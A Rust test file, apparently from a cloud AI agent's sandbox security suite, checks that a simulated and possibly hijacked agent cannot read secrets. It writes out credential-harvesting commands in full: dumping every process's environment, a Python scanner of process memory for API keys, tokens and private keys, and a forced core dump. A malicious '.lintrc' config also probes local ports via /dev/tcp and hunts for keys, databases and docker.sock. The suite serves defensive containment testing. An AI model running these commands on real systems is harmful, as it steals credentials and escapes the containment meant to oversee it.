//! Classes 6 and 11: environments, memories and dumps read from inside; a linter that is told what to run.

use std::process::Command;

use simulator::model::tool;

use super::lab::{Lab, hijacked, reviewed, shell, world};

/// Environments and command lines of every process there is.
const ENVIRONMENTS: &str = "env; cat /proc/self/environ /proc/1/environ /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ /proc/[0-9]*/cmdline 2>&1 | tr '\\0' '\\n' | sort -u | head -c 20000";

/// Whatever looks like a key in the memory of every process there is. The patterns don't match themselves.
const MEMORY: &str = r#"cat >/tmp/scan.py <<'END'
import glob, re
looks = re.compile(rb"sk-ant-[a-z0-9-]{8,60}|gh[sp]_[A-Za-z0-9]{8,60}|-----BEGIN [A-Z ]{0,9}PRIVATE KEY-----[\s\S]{40}|5ea1ab1e{1}[0-9a-f]{8,60}|sqlite:[/]{2,3}[^\0]{4,60}")
seen, parts = set(), 0
for maps in glob.glob("/proc/[0-9]*/maps"):
    try:
        memory = open(maps.replace("maps", "mem"), "rb", 0)
        for line in open(maps):
            area, modes = line.split()[:2]
            low, high = (int(it, 16) for it in area.split("-"))
            if "rw" not in modes or high - low > 64 << 20: continue
            try:
                memory.seek(low)
                seen.update(looks.findall(memory.read(high - low)))
                parts += 1
            except (OSError, ValueError, OverflowError): pass
    except OSError as error: print(maps, error)
print("scanned" if parts else "nothing to scan", *[it.decode(errors="replace") for it in sorted(seen)[:200]], sep="\n")
END
/usr/bin/python3 /tmp/scan.py"#;

/// A dump of a process that dies.
const DUMP: &str = "ulimit -c unlimited 2>&1; ulimit -c; cd /tmp; sh -c 'kill -SEGV $$'; sleep 0.1; ls /tmp /workspace /var/tmp | grep -c core";

#[tokio::test(flavor = "multi_thread")]
async fn class_06_no_environment_memory_or_dump_has_a_secret() {
    let mut world = world().await;
    let read = |path: &str| tool("Read", serde_json::json!({ "file_path": path }));
    let mut acts = shell(&[ENVIRONMENTS, MEMORY, DUMP, "ls -d /proc/[0-9]* | wc -l"]);
    acts.extend(["/proc/self/environ", "/proc/1/environ", "/proc/self/mem", "/proc/kcore"].map(read));
    let seen = reviewed(&mut world, &[("app.txt", "one\n")], acts).await;
    let told = seen.told();
    for (name, secret) in world.secrets() {
        assert!(!told.contains(&secret), "{name} was seen in the sandbox");
    }
    assert!(!told.contains("ghs_") && !told.contains("PRIVATE KEY-----\\n"), "{told}");
    // Each attempt was one: it saw what there is to be seen.
    assert!(seen.results[0].contains("ANTHROPIC_API_KEY=cloud-agent-run-"), "{}", seen.results[0]);
    assert!(seen.results[1].contains("scanned"), "{}", seen.results[1]);
    assert!(seen.results[2].contains("\n0\n") && seen.results[2].trim_end().ends_with('0'), "{}", seen.results[2]);
    assert!(seen.results[3].trim().parse::<u32>().unwrap() < 12, "{}", seen.results[3]);
}

#[tokio::test(flavor = "multi_thread")]
async fn control_06_what_is_in_the_environment_is_read() {
    let lab = Lab::new(&[]).await;
    let secret = "ghs_controlcontrolcontrolcontrol0000";
    let weaken = |exec: &mut cloud_agent::sandbox::Exec| {
        exec.env.insert("GITHUB_TOKEN".to_owned(), secret.to_owned());
    };
    let seen = lab.cage(&[]).await.claude(&lab, shell(&[ENVIRONMENTS, MEMORY]), weaken).await;
    assert!(seen.results[0].contains(secret) && seen.results[1].contains(secret), "{:?}", seen.results);
}

#[tokio::test]
async fn control_06_what_runs_in_the_same_namespace_is_read() {
    let lab = Lab::new(&[]).await;
    let bot = "BOT_SECRET=ghs_botbotbotbotbotbotbotbotbotbot00 sleep 60 & sleep 0.1; cat /proc/$!/environ | tr '\\0' '\\n'; kill $!";
    let said = lab.cage(&[]).await.sh(bot).await;
    assert!(said.contains("BOT_SECRET=ghs_bot"), "{said}");
}

/// CodeRabbit's linter: its settings are code, and the stranger brings them.
const LINT: &str = "#!/bin/bash\n# Reads its settings as linters do.\n. ./.lintrc\necho 'no offences'\n";

/// Where a stranger's code looks through all that there is.
const INSIDE: &str = "/workspace /home /etc/ssl/private /context /out /srv /run /tmp /var/tmp";

/// Looks for the App's key, a token and the database, and tries all doors of the host.
fn lintrc(places: &[String], ports: &[u16], roots: &str) -> String {
    let door = |port| format!("(exec 3<>/dev/tcp/127.0.0.1/{port} && echo DOOR {port} IS OPEN) 2>/dev/null\n");
    let doors = ports.iter().map(door).collect::<Vec<_>>().concat();
    format!(
        "env\ncat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'\ncat {0} 2>/dev/null && echo FOUND\nls -A {0} 2>/dev/null\n{doors}\
         grep -rlsI -e 'PRIVATE KEY' -e 'sk-ant-simulate[d]' {roots} 2>/dev/null | grep -v lintrc\n\
         find {roots} \\( -name '*.pem' -o -name '*.db' -o -name docker.sock \\) 2>/dev/null\ntrue\n",
        places.join(" ")
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn class_11_a_linters_code_finds_no_key_no_token_and_no_database() {
    let mut world = world().await;
    world.start().await;
    let database = world.data_dir().with_file_name("cloud-agent.db").display().to_string();
    let port = |url: &str| url.rsplit(':').next().unwrap().parse::<u16>().unwrap();
    let ports = [world.address().port(), port(world.github.url()), port(world.model.url())];
    world.stop().await;
    let rc = lintrc(&[database.clone(), world.data_dir().display().to_string()], &ports, INSIDE);
    assert!(std::path::Path::new(&database).exists(), "it is there to be found");
    let files = [("lint", LINT), (".lintrc", rc.as_str())];
    let seen = reviewed(&mut world, &files, shell(&["bash lint"])).await;
    let said = &seen.results[0];
    assert!(said.contains("no offences") && said.contains("ANTHROPIC_API_KEY=cloud-agent-run-"), "{said}");
    assert!(
        !said.contains("FOUND") && !said.contains("IS OPEN") && !said.contains(".pem") && !said.contains(".db"),
        "{said}"
    );
    for (name, secret) in world.secrets() {
        assert!(!said.contains(&secret), "{name} was found");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn control_11_on_the_host_the_linter_finds_everything() {
    let mut world = world().await;
    world.model.will(hijacked(Vec::new(), serde_json::json!({})));
    world.start().await;
    let database = world.data_dir().with_file_name("cloud-agent.db").display().to_string();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("lint"), LINT).unwrap();
    std::fs::write(
        dir.path().join(".lintrc"),
        lintrc(&[database], &[world.address().port()], &world.data_dir().display().to_string()),
    )
    .unwrap();
    let mut linter = Command::new("bash");
    linter.arg("lint").current_dir(dir.path()).env_clear().env("PATH", "/usr/bin:/bin").envs(world.secrets());
    let said = tokio::task::spawn_blocking(move || linter.output().unwrap()).await.unwrap();
    let said = String::from_utf8_lossy(&said.stdout).into_owned();
    assert!(said.contains("FOUND") && said.contains("IS OPEN"), "{said}");
    for (name, secret) in world.secrets() {
        assert!(said.contains(&secret), "{name} was not found");
    }
}
